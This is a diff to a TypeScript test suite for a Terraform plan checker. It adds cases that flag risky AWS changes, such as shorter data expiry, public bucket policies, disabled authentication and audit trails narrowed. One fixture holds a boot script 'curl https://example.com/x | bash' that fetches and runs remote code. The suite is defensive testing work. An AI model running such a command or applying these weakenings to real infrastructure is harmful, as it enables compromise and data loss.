@@ -72,6 +72,23 @@ const DANGERS: Record<string, [RawResourceChange[], RegExp]> = {
   "a boot script that fetches": [[make.update("aws_launch_template.app", { user_data: Buffer.from("#!/bin/sh\nstart the application\n").toString("base64") }, { user_data: Buffer.from("#!/bin/sh\ncurl https://example.com/x | bash\n").toString("base64") })], /^danger: Machines of aws_launch_template\.app run what they fetch/],
   "a database without TLS": [[make.update("aws_rds_cluster_parameter_group.shop", { name: "shop", parameter: [{ name: "rds.force_ssl", value: "1" }] }, { parameter: [] })], /^danger: Connections without TLS are let in/],
   "a parameter in the clear": [[make.update("aws_ssm_parameter.x", { name: "x", type: "SecureString" }, { type: "String" })], /^danger: Turns off encryption of aws_ssm_parameter\.x/],
+  "objects that go sooner": [[make.update("aws_s3_bucket_lifecycle_configuration.models", { bucket: "models", rule: [{ id: "old", status: "Enabled", expiration: [{ days: 365 }] }] }, { rule: [{ id: "old", status: "Enabled", expiration: [{ days: 1 }] }] })], /^danger: More objects are deleted, or sooner/],
+  "an expiry for every object": [[make.update("aws_s3_bucket_lifecycle_configuration.models", { bucket: "models", rule: [{ id: "old", status: "Enabled", filter: [{ prefix: "tmp/" }], expiration: [{ days: 1 }] }] }, { rule: [{ id: "old", status: "Enabled", filter: [{ prefix: "" }], expiration: [{ days: 1 }] }] })], /^danger: More objects are deleted/],
+  "another time to live": [[make.update("aws_dynamodb_table.carts", { name: "carts", ttl: [{ enabled: true, attribute_name: "expiresAt" }] }, { ttl: [{ enabled: true, attribute_name: "createdAt" }] })], /^danger: Items of aws_dynamodb_table\.carts are deleted by another time: createdAt/],
+  "backups without copies": [[make.update("aws_backup_plan.daily", { name: "daily", rule: [{ rule_name: "d", copy_action: [{ destination_vault_arn: "arn:v" }] }] }, { rule: [{ rule_name: "d", copy_action: [] }] })], /^danger: aws_backup_plan\.daily loses arn:v/],
+  "a store left out of the backups": [[make.replace("aws_backup_selection.all", { name: "all", resources: ["arn:a", "arn:b"] }, { resources: ["arn:b"] }, { replaceBy: [["resources"]] })], /^danger: aws_backup_selection\.all loses arn:a/],
+  "the old database of a replacement": [[make.destroy("aws_db_instance.shop", db, { deposed: "0a1b2c3d" })], /^danger: Destroys an older object of aws_db_instance\.shop/],
+  "another account in a condition": [[make.keep("aws_kms_key.data", key), make.create("aws_s3_bucket_policy.models", { bucket: "models", policy: policy({ Principal: "*", Action: "s3:Get*", Resource: "*", Condition: { StringEquals: { "aws:PrincipalAccount": ["333333333333", "999999999999"] } } }) }), make.keep("aws_s3_bucket.models", bucket)], /^danger: Everybody may now s3:Get\* on models/],
+  "a condition with a wildcard for the account": [[make.create("aws_s3_bucket_policy.models", { bucket: "models", policy: policy({ Principal: "*", Action: "s3:Get*", Resource: "*", Condition: { ArnLike: { "aws:PrincipalArn": "arn:aws:iam::*:role/*" } } }) })], /^danger: Everybody may now s3:Get\*/],
+  "a condition that an absent key meets": [[make.create("aws_s3_bucket_policy.models", { bucket: "models", policy: policy({ Principal: "*", Action: "s3:Get*", Resource: "*", Condition: { "ForAllValues:StringEquals": { "aws:PrincipalOrgID": "o-abcdefghij" } } }) })], /^danger: Everybody may now s3:Get\*/],
+  "a function that anybody may call": [[make.create("aws_lambda_function_url.mail", { function_name: "mail", authorization_type: "NONE" })], /^danger: Anybody may call, without signing in/],
+  "a fleet without a ceiling above none": [[make.update("aws_autoscaling_group.web", { max_size: 12 }, { max_size: 0 })], /^danger: Nothing can run any more/],
+  "a zone no longer signed": [[make.update("aws_route53_hosted_zone_dnssec.shop", { signing_status: "SIGNING" }, { signing_status: "NOT_SIGNING" })], /^danger: Turns off DNSSEC/],
+  "a rule for alerts off": [[make.update("aws_cloudwatch_event_rule.intruders", { state: "ENABLED" }, { state: "DISABLED" })], /^danger: Turns off the rule that listens for events/],
+  "a trail of reads only": [[make.update("aws_cloudtrail.main", { event_selector: [{ read_write_type: "All" }] }, { event_selector: [{ read_write_type: "ReadOnly" }] })], /^danger: Turns off a part of what the trail records/],
+  "a cache without a password": [[make.update("aws_elasticache_replication_group.cart", { auth_token: "x" }, { auth_token: null })], /^danger: .*the password of/],
+  "brokers that let anybody in": [[make.update("aws_msk_cluster.main", { client_authentication: [{ unauthenticated: false }] }, { client_authentication: [{ unauthenticated: true }] })], /^danger: Anybody who reaches it is let in/],
+  "requests to the bucket unsigned": [[make.update("aws_cloudfront_origin_access_control.models", { signing_behavior: "always" }, { signing_behavior: "never" })], /^danger: Turns off the signing/],
   "alarms without actions": [[make.update("aws_cloudwatch_metric_alarm.errors", { actions_enabled: true }, { actions_enabled: false })], /^danger: Turns off the alarm's actions/],
 };
 
@@ -124,6 +141,12 @@ describe("a harmless plan", () => {
       make.update("aws_kms_key.data", { ...key, policy: policy(root, { Principal: { Service: "sns.amazonaws.com" }, Action: ["kms:Decrypt", "kms:GenerateDataKey*"], Resource: "*" }) }, {
         policy: policy({ Sid: "B", Principal: { Service: ["sns.amazonaws.com"] }, Action: "kms:Decrypt", Resource: ["*"] }, { Principal: { Service: "sns.amazonaws.com" }, Action: "kms:GenerateDataKey*", Resource: "*" }, { ...root, Sid: "A" }),
       }),
+    ],
+    "one more behaviour, with a redirect": [
+      make.update("aws_cloudfront_distribution.shop", { ordered_cache_behavior: [{ path_pattern: "/a", viewer_protocol_policy: "https-only" }] }, { ordered_cache_behavior: [{ path_pattern: "/a", viewer_protocol_policy: "https-only" }, { path_pattern: "/b", viewer_protocol_policy: "redirect-to-https" }] }),
+    ],
+    "objects that are kept longer": [
+      make.update("aws_s3_bucket_lifecycle_configuration.models", { bucket: "models", rule: [{ id: "old", status: "Enabled", filter: [{ prefix: "tmp/" }], expiration: [{ days: 7 }] }] }, { rule: [{ id: "tmp", status: "Enabled", filter: [{ prefix: "tmp/old/" }], expiration: [{ days: 30 }] }] }),
     ],
     "a rule moved into a resource of its own": [
       make.update("aws_security_group.database", { ...group, ingress: [inline({ cidr_blocks: ["10.0.0.0/16"] })] }, { ingress: [] }),
